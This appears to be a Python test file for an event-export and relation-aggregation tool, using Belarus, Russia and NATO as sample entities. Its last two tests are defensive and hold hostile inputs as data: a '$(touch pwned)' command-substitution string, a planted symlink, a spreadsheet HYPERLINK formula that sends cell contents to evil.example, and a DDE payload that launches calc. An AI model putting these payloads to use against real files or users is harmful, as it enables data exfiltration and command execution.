"""PLOVER-style event export and cross-document aggregation (no model needed)."""

from __future__ import annotations

import csv

from graphbuild.outputs.events import HEADER, actor_codes, write_events_csv
from graphbuild.model import Entity, Relation
from graphbuild.relations.aggregate import aggregate

ENTITIES = {
    "country/BLR": Entity("country/BLR", "Belarus", "Country", iso3="BLR"),
    "country/RUS": Entity("country/RUS", "Russia", "Country", iso3="RUS"),
    "org/NATO": Entity("org/NATO", "North Atlantic Treaty Organization", "Organization", aliases=("NATO",)),
    "org/CSTO": Entity("org/CSTO", "Collective Security Treaty Organization", "Organization"),
    "person/alexander-lukashenko": Entity("person/alexander-lukashenko", "Alexander Lukashenko", "Person"),
}


def rel(s, r, o, doc="a", date="2020-01-01", neg=False, conf=0.8, start=0) -> Relation:
    return Relation(doc, s, r, o, f"{s} {r} {o}.", start, start + 10, negated=neg, confidence=conf, date=date,
                    method="test", trigger="met" if r == "consult" else "x")


def test_events_csv_rows_and_codes(tmp_path) -> None:
    rels = [
        rel("country/BLR", "consult", "org/NATO"),
        rel("country/BLR", "dependsOn", "country/RUS"),  # structural: not an event
        rel("person/alexander-lukashenko", "leaderOf", "country/BLR"),
        rel("person/alexander-lukashenko", "accuse", "org/NATO", neg=True),
    ]
    path = tmp_path / "events.csv"
    n = write_events_csv(rels, ENTITIES, path, igo_table={"nato": "IGOWSTNAT"})
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert tuple(rows[0].keys()) == HEADER
    assert n == len(rows) == 3  # consult both directions + accuse
    consult = [r for r in rows if r["event_type"] == "CONSULT"]
    assert {(r["source_code"], r["target_code"]) for r in consult} == {("BLR", "IGOWSTNAT"), ("IGOWSTNAT", "BLR")}
    (accuse,) = [r for r in rows if r["event_type"] == "ACCUSE"]
    assert accuse["source_code"] == "BLRGOV" and accuse["negated"] == "true"


def test_events_unknown_igo_gets_generic_code() -> None:
    codes = actor_codes([rel("org/CSTO", "support", "country/RUS")], ENTITIES, igo_table={})
    assert codes == {"org/CSTO": "IGO", "country/RUS": "RUS"}


def test_aggregate_counts_dates_and_keeps_evidence() -> None:
    rels = [
        rel("country/BLR", "dependsOn", "country/RUS", doc="a", date="2019-05-01", conf=0.9),
        rel("country/BLR", "dependsOn", "country/RUS", doc="b", date="2018-01-01", conf=0.7),
        rel("country/BLR", "dependsOn", "country/RUS", doc="b", date="2018-01-01", neg=True, start=20),
        rel("org/NATO", "consult", "country/BLR", doc="c", date=None),
        rel("country/BLR", "consult", "org/NATO", doc="d", date="2021-02-02"),
    ]
    edges = {e.key: e for e in aggregate(rels)}
    dep = edges[("country/BLR", "dependsOn", "country/RUS", False)]
    assert (dep.evidence_count, dep.document_count, dep.first_seen, dep.last_seen) == (2, 2, "2018-01-01", "2019-05-01")
    assert dep.mean_confidence == 0.8 and dep.max_confidence == 0.9
    assert [r.doc_id for r in dep.evidence] == ["b", "a"]
    assert ("country/BLR", "dependsOn", "country/RUS", True) in edges  # negated claims stay apart
    consult = edges[("country/BLR", "consult", "org/NATO", False)]  # symmetric: direction-free
    assert consult.evidence_count == 2 and consult.first_seen == consult.last_seen == "2021-02-02"


def test_aggregate_is_deterministic() -> None:
    rels = [rel("country/BLR", "consult", "org/NATO", doc=d) for d in "cab"]
    assert aggregate(rels) == aggregate(list(reversed(rels)))


def test_events_csv_does_not_follow_a_planted_temporary_symlink(tmp_path) -> None:
    victim = tmp_path / "notes.txt"
    victim.write_text("my notes\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    for name in ("events.csv.tmp", ".events.csv.tmp"):  # the old fixed temporary name, and a guess
        (out / name).symlink_to(victim)
    rels = [Relation("d", "country/BLR", "consult", "org/NATO", "$(touch pwned) Belarus met NATO.", 0, 30,
                     date="2020-01-01", method="test", trigger="met")]
    assert write_events_csv(rels, ENTITIES, out / "events.csv", igo_table={}) == 2
    assert victim.read_text(encoding="utf-8") == "my notes\n"
    assert not (out / "events.csv").is_symlink()
    assert "$(touch pwned)" in (out / "events.csv").read_text(encoding="utf-8")
    assert sorted(p.name for p in out.iterdir()) == [".events.csv.tmp", "events.csv", "events.csv.tmp"]


def test_events_csv_cells_are_formula_safe(tmp_path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rels = [Relation(hostile, "country/BLR", "consult", "org/NATO", "@SUM(1+1) said Belarus.", 0, 30,
                     speaker="-2+3 cmd|' /C calc'!A0", date="2020-01-01", method="+method", trigger="met")]
    write_events_csv(rels, ENTITIES, tmp_path / "events.csv", igo_table={})
    rows = list(csv.reader((tmp_path / "events.csv").open(encoding="utf-8")))
    assert len(rows) == 3
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + hostile in cells and "'@SUM(1+1) said Belarus." in cells and "'+method" in cells
